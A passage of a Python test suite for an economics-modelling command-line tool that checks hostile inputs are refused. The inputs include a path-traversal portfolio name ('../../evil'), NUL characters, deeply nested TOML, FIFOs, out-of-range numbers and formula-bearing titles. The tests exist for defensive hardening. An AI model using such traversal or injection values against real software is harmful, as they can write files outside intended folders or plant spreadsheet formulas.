    block = f"\n[assumptions.{key}]\n"
    if value is not None:
        block += f"value = {value}\n"
    block += f'unit = "{unit}"\n'
    if source:
        block += 'source = { assumption = "hostile test" }\n'
    return text + block


def _out_of_domain(spec: object) -> dict[str, str]:
    """Values just outside the input's domain, a non-whole count and a
    per-year series of the wrong length (from the spec, not typed)."""
    from econ.model.schema import InputSpec

    assert isinstance(spec, InputSpec)
    bad: dict[str, str] = {}
    if spec.minimum is not None:
        bad["below-min"] = repr(float(spec.minimum) - (0 if spec.min_open else 1))
    if spec.maximum is not None:
        bad["above-max"] = repr(float(spec.maximum) + (0 if spec.max_open else 1))
    if spec.kind == "whole":
        bad["not-whole"] = repr(float(spec.minimum or 0) + 1.5)
    if spec.kind == "year":
        bad["year-far"] = "99999"
    bad["list-3"] = "[1, 2, 3]"  # per-year: wrong length; scalar: not a series
    return bad


PROJECT_BAD = {
    "text": '"twelve"',
    "bool": "true",
    "table": "{ a = 1 }",
    "nan": "nan",
    "inf": "inf",
    "minus-inf": "-inf",
    "empty-list": "[]",
    "nested-list": "[[1]]",
}


def _project_cases() -> list[Case]:
    from econ.model.schema import InputSpec

    cases: list[Case] = []
    for spec in _project_specs():
        assert isinstance(spec, InputSpec)
        where = f"assumptions.{spec.key}"
        for name, literal in {**PROJECT_BAD, **_out_of_domain(spec)}.items():
            cases.append(
                _scenario_case(
                    f"project-{spec.key}-{name}",
                    lambda k=spec.key, u=spec.unit, v=literal: _add(_text(PROJECT_SEED), k, u, v),
                    where,
                )
            )
        cases.append(
            _scenario_case(
                f"project-{spec.key}-no-value",
                lambda k=spec.key, u=spec.unit: _add(_text(PROJECT_SEED), k, u, None),
                where,
            )
        )
        cases.append(
            _scenario_case(
                f"project-{spec.key}-no-source",
                lambda k=spec.key, u=spec.unit: _add(_text(PROJECT_SEED), k, u, "0", False),
                where,
            )
        )
    # the basket's shares must add up to 1: the message names the share written
    for k in (1, 2, 3):
        cases.append(
            _scenario_case(
                f"project-basket-only-share-{k}",
                lambda k=k: _add(_text(PROJECT_SEED), f"product_{k}_share", "1", "0.5"),
                f"assumptions.product_{k}_share",
            )
        )
    for name, literal in (("zero", "0"), ("negative", "-80"), ("tiny", "1e-300")):
        # a budget in rubles over an exchange rate of 0 was a ZeroDivisionError
        cases.append(
            _scenario_case(
                f"rub-fx-{name}",
                lambda v=literal: _set(_text(RUB_SEED), "fx_rub_per_usd", "value", v),
                "assumptions.fx_rub_per_usd",
            )
        )
    cases.append(
        _scenario_case(
            "project-huge-capacity-overflows",
            lambda: _set(_text(PROJECT_SEED), "capacity_t_per_yr", "value", "1e20"),
            "assumptions.capacity_t_per_yr",
        )
    )
    return cases


PROJECT_CASES = _project_cases()


@pytest.mark.parametrize("case", PROJECT_CASES, ids=[c.id for c in PROJECT_CASES])
def test_hostile_project_input(
    case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every issue-11 input refuses what is not in its domain: exit 2, one
    line naming the file and the key, nothing written."""
    test_hostile_input(case, tmp_path, capsys)


def test_project_corpus_covers_every_issue_11_input() -> None:
    from econ.model.schema import InputSpec

    keys = {s.key for s in _project_specs() if isinstance(s, InputSpec)}
    for key in (
        "loan_share",
        "soft_loan_rate",
        "tax_holiday_yr",
        "product_2_share",
        "fx_path_rub_per_usd",
        "inflation_rate",
        "royalty_share",
        "strike_price_usd_per_kg",
        "rd_grant_year",
        "plant_life_yr",
    ):
        assert key in keys
        assert any(c.id.startswith(f"project-{key}-") for c in PROJECT_CASES)
    assert len(PROJECT_CASES) >= 400


def test_huge_in_domain_project_inputs_build_and_read_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """1e308 is inside some domains (years of a tax holiday, a price of a
    product with no share): it builds, and the workbook reads back."""
    from econ.excel.reader import read_workbook

    text = _text(PROJECT_SEED)
    for key, unit in (
        ("tax_holiday_yr", "yr"),
        ("rd_grant_usd", "USD"),
        ("product_3_price_usd_per_kg", "USD/kg"),
    ):
        text = _add(text, key, unit, "1e308")
    path = tmp_path / "huge.toml"
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["build", str(path), "-o", str(out)]) == 0, capsys.readouterr().err
    back = read_workbook(out / f"{PROJECT_SEED}.xlsx").scenario
    assert back.assumptions["tax_holiday_yr"].value == 1e308


# ---------------------------------------------------------------------------
# Portfolio files (issue 13): `econ portfolio FILE -o DIR -n DRAWS`
# ---------------------------------------------------------------------------

PORTFOLIO = SEEDS / "portfolios" / "portfolio_60bn.toml"


def _portfolio_text() -> str:
    return PORTFOLIO.read_text(encoding="utf-8").replace('"../', f'"{SEEDS.as_posix()}/')


def _pf_sub(pattern: str, replacement: str) -> Callable[[], str]:
    return lambda: re.sub(pattern, lambda _: replacement, _portfolio_text(), count=1, flags=re.M)


def _pf_value(table: str, literal: str) -> Callable[[], str]:
    """Set ``value`` of the ``[table]`` of the portfolio file."""

    def text() -> str:
        t = _portfolio_text()
        start = t.index(f"[{table}]")
        end = t.find("\n[", start + 1)
        block = re.sub(
            r"^value = .*$", lambda _: f"value = {literal}", t[start:end], count=1, flags=re.M
        )
        return t[:start] + block + t[end:]

    return text


def _pf_project(old: str, new: str) -> Callable[[], str]:
    """Replace ``old`` in the portfolio file by ``new``; an ``instruments``
    list the file does not write is given to its first project instead."""

    def text() -> str:
        t = _portfolio_text()
        if old in t:
            return t.replace(old, new, 1)
        assert old.startswith("[") and "instruments" not in t, old
        first = re.search(r"^\[\[projects\]\]\nfile = .*$", t, flags=re.M)
        assert first, "the seed portfolio lists no project"
        return t[: first.end()] + f"\ninstruments = {new}" + t[first.end() :]

    return text


def _pf_no_projects() -> str:
    """The portfolio file with every [[projects]] table taken out."""
    t = _portfolio_text()
    out = re.sub(r"^\[\[projects\]\]\n(?:(?!\[).*\n)*", "", t, flags=re.M)
    assert "[[projects]]" not in out and out != t
    return out


SEED_PROJECT = f'"{SEEDS.as_posix()}/polar_lithium.toml"'
PORTFOLIO_CASES: dict[str, tuple[Callable[[], str], str]] = {
    "name-traversal": (_pf_sub(r"^name = .*$", 'name = "../../evil"'), "name"),
    "name-slash": (_pf_sub(r"^name = .*$", 'name = "a/b"'), "name"),
    "name-number": (_pf_sub(r"^name = .*$", "name = 5"), "name"),
    "name-missing": (_pf_sub(r"^name = .*$", ""), "name"),
    "title-number": (_pf_sub(r"^title = .*$", "title = 5"), "title"),
    "title-nul": (_pf_sub(r"^title = .*$", 'title = "a\\u0000b"'), "title"),
    "description-list": (
        lambda: re.sub(
            r'^description = """.*?"""', 'description = ["x"]', _portfolio_text(), flags=re.M | re.S
        ),
        "description",
    ),
    "objective-list": (_pf_sub(r"^objective = .*$", 'objective = ["capacity"]'), "objective"),
    "objective-unknown": (_pf_sub(r"^objective = .*$", 'objective = "profit"'), "objective"),
    "first-year-huge": (_pf_sub(r"^first_year = .*$", "first_year = 99999999999"), "first_year"),
    "first-year-negative": (_pf_sub(r"^first_year = .*$", "first_year = -5"), "first_year"),
    "first-year-text": (_pf_sub(r"^first_year = .*$", 'first_year = "2025"'), "first_year"),
    "kind-missing": (_pf_sub(r"^kind = .*$", ""), "kind"),
    "unknown-key": (lambda: "surprise = 1\n" + _portfolio_text(), "surprise"),
    "budget-negative": (_pf_value("budget", "-60"), "budget.value"),
    "budget-zero": (_pf_value("budget", "0"), "budget.value"),
    "budget-huge": (_pf_value("budget", "1e308"), "budget.value"),
    "budget-nan": (_pf_value("budget", "nan"), "budget.value"),
    "budget-inf": (_pf_value("budget", "inf"), "budget.value"),
    "budget-text": (_pf_value("budget", '"60"'), "budget.value"),
    "budget-list": (_pf_value("budget", "[60]"), "budget.value"),
    "budget-unit-tower": (
        _pf_sub(r'^unit = "bn RUB"$', 'unit = "USD*10**10**10"'),
        "budget.unit",
    ),
    "budget-unit-mass": (_pf_sub(r'^unit = "bn RUB"$', 'unit = "kg"'), "budget.unit"),
    "budget-basis": (_pf_sub(r'^basis = "pv"$', 'basis = ["pv"]'), "budget.basis"),
    "budget-missing": (
        lambda: re.sub(r"\[budget\].*?(?=\n\[envelope\])", "", _portfolio_text(), flags=re.S),
        "budget",
    ),
    "budget-source-missing": (
        _pf_sub(r"^source = .*60 billion rubles.*$", ""),
        "budget.source",
    ),
    "budget-not-a-table": (
        lambda: re.sub(
            r"\[budget\].*?(?=\n\[envelope\])", "", _portfolio_text(), flags=re.S
        ).replace("kind =", "budget = 60\nkind =", 1),
        "budget",
    ),
    "envelope-negative": (_pf_value("envelope", "-10"), "envelope.value"),
    "envelope-zero": (_pf_value("envelope", "0"), "envelope.value"),
    "fx-zero": (_pf_value("fx_rub_per_usd", "0"), "fx_rub_per_usd.value"),
    "fx-negative": (_pf_value("fx_rub_per_usd", "-80"), "fx_rub_per_usd.value"),
    "fx-tiny": (_pf_value("fx_rub_per_usd", "1e-300"), "budget.value"),
    "rate-one": (_pf_value("state_discount_rate", "1"), "state_discount_rate.value"),
    "rate-negative": (_pf_value("state_discount_rate", "-0.1"), "state_discount_rate.value"),
    "target-negative": (_pf_value("target", "-5"), "target.value"),
    "target-huge": (_pf_value("target", "1e308"), "target.value"),
    "target-year-huge": (_pf_sub(r"^year = 2030$", "year = 99999999999"), "target.year"),
    "target-year-text": (_pf_sub(r"^year = 2030$", 'year = "2030"'), "target.year"),
    "target-unit": (_pf_sub(r'^unit = "t/yr"$', 'unit = "USD"'), "target.unit"),
    "projects-none": (
        _pf_no_projects,
        "projects",
    ),
    "project-missing": (_pf_project(SEED_PROJECT, '"nope.toml"'), "projects[1].file"),
    "project-twice": (
        _pf_project(SEED_PROJECT, f'"{SEEDS.as_posix()}/magnets_plant.toml"'),
        "projects",
    ),
    "project-national": (
        _pf_project(SEED_PROJECT, f'"{SEEDS.as_posix()}/national_ree_gap.toml"'),
        "projects[1].file",
    ),
    "project-number": (_pf_project(SEED_PROJECT, "5"), "projects[1]"),
    "project-extra-key": (
        _pf_project(SEED_PROJECT, SEED_PROJECT + "\nweight = 2"),
        "projects[1].weight",
    ),
    "instrument-unknown": (
        _pf_project('["production_subsidy"]', '["free_money"]'),
        "projects[0].instruments",
    ),
    "instrument-nested": (
        _pf_project('["production_subsidy"]', '[["production_subsidy"]]'),
        "projects[0].instruments",
    ),
    "instrument-empty": (_pf_project('["production_subsidy"]', "[]"), "projects[0].instruments"),
    "instrument-text": (
        _pf_project('["production_subsidy"]', '"production_subsidy"'),
        "projects[0].instruments",
    ),
    "deep-nesting": (
        lambda: _portfolio_text() + "x = " + "[" * 3000 + "]" * 3000 + "\n",
        "nested too deeply",
    ),
    "not-toml": (lambda: "this is = = not toml\n", "not valid TOML"),
}


@pytest.mark.parametrize("id", list(PORTFOLIO_CASES))
def test_hostile_portfolio_file(
    id: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One line naming the portfolio file and the key, exit 2, nothing written."""
    make, where = PORTFOLIO_CASES[id]
    path = tmp_path / "pf.toml"
    path.write_text(make(), encoding="utf-8")
    out = tmp_path / "out"
    code = main(["portfolio", str(path), "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("econ: error: ") and err.count("\n") == 1, err
    assert "Traceback" not in err and "internal error" not in err, err
    assert str(path) in err and where in err, err
    assert not _files(out), "a refused portfolio left files"
    assert not list(tmp_path.parent.glob("evil.*")), "a name wrote outside the output folder"


@pytest.mark.parametrize(
    "make",
    [
        lambda folder: os.mkfifo(folder / "pf.toml"),
        lambda folder: (folder / "pf.toml").mkdir(),
        lambda folder: (folder / "pf.toml").write_bytes(b"\xff\xfe garbage"),
        lambda folder: (folder / "pf.toml").write_text("#" * (2 * 1024 * 1024)),
    ],
    ids=["fifo", "folder", "binary", "too-big"],
)
def test_special_portfolio_files_are_refused_without_reading(
    make: Callable[[Path], object], tmp_path: Path
) -> None:
    make(tmp_path)
    proc = _econ("portfolio", str(tmp_path / "pf.toml"), "-o", str(tmp_path / "out"))
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 2, err
    assert err.decode().startswith(f"econ: error: {tmp_path / 'pf.toml'}: "), err
    assert b"Traceback" not in err


def test_a_fifo_in_a_run_folder_does_not_hang_the_portfolio_scan(tmp_path: Path) -> None:
    """`econ run` looks for portfolio files among the folder's *.toml: a pipe
    is never opened (it would block), it is refused as a scenario."""
    shutil.copy(SEEDS / f"{SEED}.toml", tmp_path / f"{SEED}.toml")
    os.mkfifo(tmp_path / "pipe.toml")
    proc = _econ("run", str(tmp_path), "-o", str(tmp_path / "out"))
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 2, err
    assert str(tmp_path / "pipe.toml") in err.decode() and b"Traceback" not in err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "argv",
    [["-n", "1"], ["-n", "-5"], ["-n", "10000000000000"], ["-n", "x"], ["--seed", "-1"]],
)
def test_portfolio_draw_options_are_checked_before_any_work(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["portfolio", str(PORTFOLIO), "-o", str(tmp_path / "out"), *argv])
    assert exc.value.code == 2
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and argv[0] in captured.err
    assert captured.out == "" and not (tmp_path / "out").exists()


@pytest.mark.parametrize("argv", [["-n", "1"], ["-n", "100000000000"], ["--seed", "-1"]])
def test_risk_draw_options_are_checked_before_any_work(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["risk", str(SEEDS / f"{SEED}.toml"), "-q", *argv])
    assert exc.value.code == 2
    assert "Traceback" not in capsys.readouterr().err


def test_hostile_portfolio_titles_stay_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A title that is a formula, markup, a link and control characters: the
    page escapes it, the workbook holds it as a string, the terminal gets no
    control character."""
    title = "".join(EVIL_TITLES)
    path = tmp_path / "pf.toml"
    path.write_text(_pf_sub(r"^title = .*$", f"title = {_toml_string(title)}")(), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["portfolio", str(path), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", printed)
    _check_outputs(out)
    book = openpyxl.load_workbook(out / "portfolio_60bn.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "evil" in cell.value:
                    assert cell.data_type == "s", cell.coordinate


# ---------------------------------------------------------------------------
# One output pipeline for portfolios and analyses: atomic, all or none, an
# edited workbook kept, no output written onto an input
# ---------------------------------------------------------------------------


def _edit(book: Path) -> bytes:
    wb = openpyxl.load_workbook(book)
    wb.worksheets[0]["A1"] = "my note"
    wb.save(book)
    return book.read_bytes()


def test_portfolio_outputs_keep_an_edited_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    assert main(["portfolio", str(PORTFOLIO), "-o", str(out)]) == 0
    book = out / "portfolio_60bn.xlsx"
    first = book.read_bytes()
    capsys.readouterr()
    assert main(["portfolio", str(PORTFOLIO), "-o", str(out)]) == 0
    assert "kept" not in capsys.readouterr().out  # econ's own file: replaced, no backup
    assert book.read_bytes() == first  # the same inputs give the same bytes
    edited = _edit(book)
    assert main(["portfolio", str(PORTFOLIO), "-o", str(out)]) == 0
    backup = out / "portfolio_60bn.edited-backup.xlsx"
    assert f"kept {book} as {backup}" in capsys.readouterr().out
    assert backup.read_bytes() == edited and book.read_bytes() == first
    assert not [p for p in _files(out) if ".econ-tmp-" in p]


def test_portfolio_outputs_are_all_or_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A failure while writing (a folder in the way of the workbook) leaves
    no page without its workbook, no temporary file, and exits 3."""
    out = tmp_path / "out"
    (out / "portfolio_60bn.xlsx").mkdir(parents=True)
    assert main(["portfolio", str(PORTFOLIO), "-o", str(out)]) == 3
    err = capsys.readouterr().err
    assert err.startswith("econ: error: cannot ") and "Traceback" not in err
    assert _files(out) == {"portfolio_60bn.xlsx"}


def test_run_gives_a_portfolio_named_like_a_scenario_its_own_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in"
    (src / "portfolios").mkdir(parents=True)
    shutil.copy(SEEDS / "magnets_plant.toml", src)
    text = PORTFOLIO.read_text(encoding="utf-8")
    text = re.sub(r"^name = .*$", 'name = "magnets_plant"', text, count=1, flags=re.M)
    text = re.sub(r"\[\[projects\]\]\nfile = \"\.\./(?!magnets_plant)[^\n]*\n[^\n]*\n", "", text)
    (src / "portfolios" / "p.toml").write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(src), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "scenario name 'magnets_plant' is also the name of" in printed
    assert {"magnets_plant.xlsx", "magnets_plant-2.xlsx", "magnets_plant-2.html"} <= _files(out)
    from econ.excel.reader import read_workbook

    assert read_workbook(out / "magnets_plant.xlsx").scenario.name == "magnets_plant"


@pytest.mark.parametrize("command", ["risk", "sensitivity"])
def test_analysis_outputs_keep_an_edited_workbook(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`econ risk -o` and `econ sensitivity -o` write through the same pipeline
    as build: an edited workbook at the output path is kept first."""
    out = tmp_path / "out"
    scenario = str(SEEDS / f"{SEED}.toml")
    extra = ["-n", "200", "-q"] if command == "risk" else []
    assert main([command, scenario, *extra, "-o", str(out)]) == 0
    book = out / f"{SEED}.xlsx"
    edited = _edit(book)
    capsys.readouterr()
    assert main([command, scenario, *extra, "-o", str(out)]) == 0
    backup = out / f"{SEED}.edited-backup.xlsx"
    assert f"kept {book} as {backup}" in capsys.readouterr().out
    assert backup.read_bytes() == edited
    assert "Risk" in openpyxl.load_workbook(book, read_only=True).sheetnames or command != "risk"


@pytest.mark.parametrize("target", ["scenario", "workbook", "folder"])
def test_risk_draws_never_overwrite_an_input(
    target: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    scenario = tmp_path / f"{SEED}.toml"
    shutil.copy(SEEDS / f"{SEED}.toml", scenario)
    book = tmp_path / "w.xlsx"
    shutil.copy(ROOT / "workbooks" / f"{SEED}.xlsx", book)
    path = {"scenario": scenario, "workbook": book, "folder": tmp_path}[target]
    before = {p: p.read_bytes() for p in (scenario, book)}
    code = main(["risk", str(scenario), "-n", "50", "-q", "--draws-csv", str(path)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith(f"econ: error: {path}: ") and "Traceback" not in err
    assert {p: p.read_bytes() for p in (scenario, book)} == before


def test_risk_draws_are_written_atomically(tmp_path: Path) -> None:
    path = tmp_path / "draws.csv"
    assert (
        main(["risk", str(SEEDS / f"{SEED}.toml"), "-n", "50", "-q", "--draws-csv", str(path)]) == 0
    )
    assert len(path.read_text(encoding="utf-8").splitlines()) == 51
    umask = os.umask(0o022)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask
    assert not [p for p in _files(tmp_path) if ".econ-tmp-" in p]


def test_no_writer_outside_the_output_pipeline() -> None:
    """Every file econ writes goes through econ.outputs (write_with /
    write_atomic): no direct open(..., "w"), write_bytes/write_text, to_csv,
    to_excel, to_parquet or xlsxwriter.Workbook(...) on a final path. The
    few calls left write the temporary file they are given inside a
    write_with callback, and are listed here by file."""
    pattern = re.compile(
        r"open\([^)]*[\"'][wax]b?[\"']|\.write_bytes\(|\.write_text\(|\.to_csv\(|"
        r"\.to_excel\(|\.to_parquet\(|(?<![A-Za-z_])Workbook\(|\.save\(|savefig\(|"
        r"mkstemp\(|os\.replace\(|os\.rename\(|shutil\.copy"
    )
    allowed = {
        "econ/excel/writer.py": 1,  # xlsxwriter.Workbook(tmp) inside write_with
        "econ/report/summary_table.py": 2,  # csv and xlsx, inside write_with
        "econ/report/sweep.py": 2,  # csv and xlsx, inside write_with
        "econ/report/portfolio.py": 1,  # xlsxwriter.Workbook(tmp) inside write_with
        "econ/analysis/montecarlo.py": 2,  # to_csv / to_parquet(tmp) inside write_with
        "econ/excel/recalc.py": 1,  # a LibreOffice profile in a private temp folder
        "econ/build.py": 1,  # os.replace of the staged outputs (write_files)
        # a kernel's C source in a private temp folder, os.replace of the
        # compiled library into the kernels folder (no analyst's file)
        "econ/native.py": 2,
    }
    found: dict[str, int] = {}
    for path in (ROOT / "econ").rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith("econ/outputs/"):
            continue
        n = len(pattern.findall(path.read_text(encoding="utf-8")))
        if n:
            found[rel] = n
    assert found == allowed


# ---------------------------------------------------------------------------
# The issue's remaining items, each through the command line
# ---------------------------------------------------------------------------


def test_build_keeps_edited_workbooks_in_every_form(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`econ build X.toml` (default folder workbooks/), `econ build A.xlsx -o
    DIR` and `econ build A.xlsx` in place: an edited workbook at the output
    path is kept as a backup, byte for byte."""
    monkeypatch.chdir(tmp_path)
    seed = str(SEEDS / f"{SEED}.toml")
    assert main(["build", seed]) == 0
    book = tmp_path / "workbooks" / f"{SEED}.xlsx"
    edited = _edit(book)
    assert main(["build", seed]) == 0
    assert (tmp_path / "workbooks" / f"{SEED}.edited-backup.xlsx").read_bytes() == edited
    copy = tmp_path / "a.xlsx"
    shutil.copy(ROOT / "workbooks" / f"{SEED}.xlsx", copy)
    out = tmp_path / "dir"
    assert main(["build", str(copy), "-o", str(out)]) == 0
    edited = _edit(out / "a.xlsx")
    assert main(["build", str(copy), "-o", str(out)]) == 0
    assert (out / "a.edited-backup.xlsx").read_bytes() == edited
    edited = _edit(copy)
    capsys.readouterr()
    assert main(["build", str(copy)]) == 0  # in place: the edited original is the backup
    assert (tmp_path / "a.edited-backup.xlsx").read_bytes() == edited
    assert f"kept {copy} as {tmp_path / 'a.edited-backup.xlsx'}" in capsys.readouterr().out


def test_xlsm_is_never_rewritten_and_a_start_year_edit_is_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    macro = tmp_path / "m.xlsm"
    shutil.copy(ROOT / "workbooks" / f"{SEED}.xlsx", macro)
    before = macro.read_bytes()
    assert main(["build", str(macro)]) == 0
    printed = capsys.readouterr().out
    assert macro.read_bytes() == before and (tmp_path / "m.xlsx").exists()
    assert f"{macro} keeps its macros and is left as it was" in printed
    moved = tmp_path / "moved.xlsx"
    wb = openpyxl.load_workbook(ROOT / "workbooks" / f"{SEED}.xlsx")
    start = int(wb["Assumptions"]["C3"].value)
    wb["Assumptions"]["C3"] = start + 1
    wb.save(moved)
    assert main(["build", str(moved), "-o", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert f"edited start year: {start} -> {start + 1}" in printed
    from econ.excel.reader import read_workbook

    assert read_workbook(tmp_path / "out" / "moved.xlsx").scenario.start_year == start + 1


def test_a_multi_file_build_with_a_bad_file_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text(_set(_text(), "discount_rate", "value", "1.5"), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["build", str(SEEDS / f"{SEED}.toml"), str(bad), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"{bad}: assumptions.discount_rate: 'discount_rate' must be in [0, 1) (got 1.5)" in err
    assert not _files(out)


def test_a_service_that_is_not_a_dask_scheduler_is_a_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A listener that accepts and never answers (a hang before), within the
    probe's time limit, exit 2, no output folder."""
    pytest.importorskip("dask.distributed")
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list[socket.socket] = []

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                held.append(server.accept()[0])

    threading.Thread(target=accept, daemon=True).start()
    port = server.getsockname()[1]
    out = tmp_path / "out"
    started = time.monotonic()
    try:
        code = main(
            ["batch", str(SEEDS), "-o", str(out), "-q", "--scheduler", f"tcp://127.0.0.1:{port}"]
        )
    finally:
        server.close()
        for conn in held:
            conn.close()
    err = capsys.readouterr().err
    assert code == 2, err
    assert "does not answer as a Dask scheduler" in err and "Traceback" not in err
    assert time.monotonic() - started < 60
    assert not out.exists()


def test_a_read_only_file_system_is_exit_3(
    tiny_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Root writes into a chmod 555 folder, but not into a read-only mount."""
    done = subprocess.run(
        ["mount", "-o", "remount,ro", str(tiny_disk)], capture_output=True, check=False
    )
    if done.returncode != 0:
        pytest.skip("cannot remount the tmpfs read-only here")
    code = main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(tiny_disk / "out")])
    err = capsys.readouterr().err
    assert code == 3, err
    assert err.startswith(f"econ: error: cannot create the folder {tiny_disk / 'out'}"), err
    assert "Read-only file system" in err and "Traceback" not in err


def test_table_workbooks_are_sealed_and_an_edited_one_is_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """summary.xlsx (batch) and sweep.xlsx (sweep --xlsx) are econ workbooks
    too: written through the atomic writer with the umask's mode, sealed, and
    an edited one kept before it is replaced."""
    from econ.outputs import workbook_state

    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(SEEDS / f"{SEED}.toml", src)
    out = tmp_path / "out"
    sweep = ["sweep", str(SEEDS / f"{SEED}.toml"), "--vary", "discount_rate=0.05:0.1:0.05"]
    for argv, table in (
        (["batch", str(src), "-o", str(out), "-q", "-j", "1"], out / "summary.xlsx"),
        ([*sweep, "-o", str(out / "sw"), "-q", "--xlsx"], out / "sw" / "sweep.xlsx"),
    ):
        assert main(argv) == 0
        assert workbook_state(table) == "unchanged"
        umask = os.umask(0o022)
        os.umask(umask)
        for path in table.parent.iterdir():
            if path.is_file():
                assert path.stat().st_mode & 0o777 == 0o666 & ~umask, path
        assert main(argv) == 0
        assert not list(table.parent.glob("*.edited-backup*"))  # econ's own: replaced
        edited = _edit(table)
        capsys.readouterr()
        assert main(argv) == 0
        backup = table.with_name(f"{table.stem}.edited-backup.xlsx")
        assert f"kept {table} as {backup}" in capsys.readouterr().err
        assert backup.read_bytes() == edited
        assert openpyxl.load_workbook(table).worksheets[0]["A1"].value != "my note"


def _edit_text(path: Path, edit: Callable[[str], str]) -> bytes:
    """Edit a text output as an analyst would (and return its new bytes)."""
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    return path.read_bytes()


def test_edited_csv_tables_draws_and_exports_are_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """summary.csv (batch), sweep.csv (sweep), the draws (risk --draws-csv,
    also as Parquet) and an exported scenario: rerun unedited, the file is
    replaced with no backup and no message; edited between two runs (a cell
    changed, a row deleted, a scenario value retyped), the edited bytes are
    kept under a numbered backup name and stderr says so; a file econ never
    wrote at the path (no digest in the folder's manifest) is kept too."""
    from econ.outputs import MANIFEST

    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(SEEDS / f"{SEED}.toml", src)
    out = tmp_path / "out"
    seed = str(SEEDS / f"{SEED}.toml")
    book = ROOT / "workbooks" / f"{SEED}.xlsx"
    cases: list[tuple[list[str], Path, Callable[[str], str]]] = [
        (
            ["batch", str(src), "-o", str(out), "-q", "-j", "1"],
            out / "summary.csv",
            lambda t: t.replace(",", ";", 1),
        ),
        (
            ["sweep", seed, "--vary", "discount_rate=0.05:0.1:0.05", "-o", str(out), "-q"],
            out / "sweep.csv",
            lambda t: "".join(t.splitlines(keepends=True)[:-1]),  # the last variant deleted
        ),
        (
            ["risk", seed, "-n", "50", "-q", "--draws-csv", str(out / "draws.csv")],
            out / "draws.csv",
            lambda t: t.replace("0", "1", 3),
        ),
        (
            ["export", str(book), "-o", str(out / "s.toml")],
            out / "s.toml",
            lambda t: t.replace("title = ", "title = 'mine' #", 1),
        ),
    ]
    for argv, path, edit in cases:
        assert main(argv) == 0
        first = path.read_bytes()
        assert main(argv) == 0  # unedited: replaced as it is
        capsys.readouterr()
        assert path.read_bytes() == first
        assert not list(path.parent.glob(f"{path.stem}.edited-backup*")), path
        edited = _edit_text(path, edit)
        assert edited != first
        assert main(argv) == 0
        backup = path.with_name(f"{path.stem}.edited-backup{path.suffix}")
        assert f"econ: kept {path} as {backup} (it differs from what econ wrote)" in (
            capsys.readouterr().err
        )
        assert backup.read_bytes() == edited
        assert path.read_bytes() == first  # econ's table again
        assert main(argv) == 0  # and that one is econ's: no second backup
        assert not path.with_name(f"{path.stem}.edited-backup-2{path.suffix}").exists()
    # a file econ did not write there (no digest recorded) is kept as well
    foreign = tmp_path / "mine.toml"
    foreign.write_text(f"# my own scenario\n{(SEEDS / f'{SEED}.toml').read_text()}", "utf-8")
    mine = foreign.read_bytes()
    assert main(["export", str(book), "-o", str(foreign)]) == 0
    assert (tmp_path / "mine.edited-backup.toml").read_bytes() == mine
    assert (out / MANIFEST).is_file()
    # the draws as Parquet, where pyarrow is installed
    if importlib.util.find_spec("pyarrow") is not None:
        parquet = out / "draws.parquet"
        argv = ["risk", seed, "-n", "50", "-q", "--draws-csv", str(parquet)]
        assert main(argv) == 0 and main(argv) == 0
        assert not list(out.glob("draws.edited-backup*.parquet"))
        parquet.write_bytes(parquet.read_bytes() + b"\0")
        edited = parquet.read_bytes()
        assert main(argv) == 0
        assert (out / "draws.edited-backup.parquet").read_bytes() == edited


def test_batch_tables_never_turn_titles_or_file_names_into_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's injections into summary.xlsx and summary.csv: a HYPERLINK
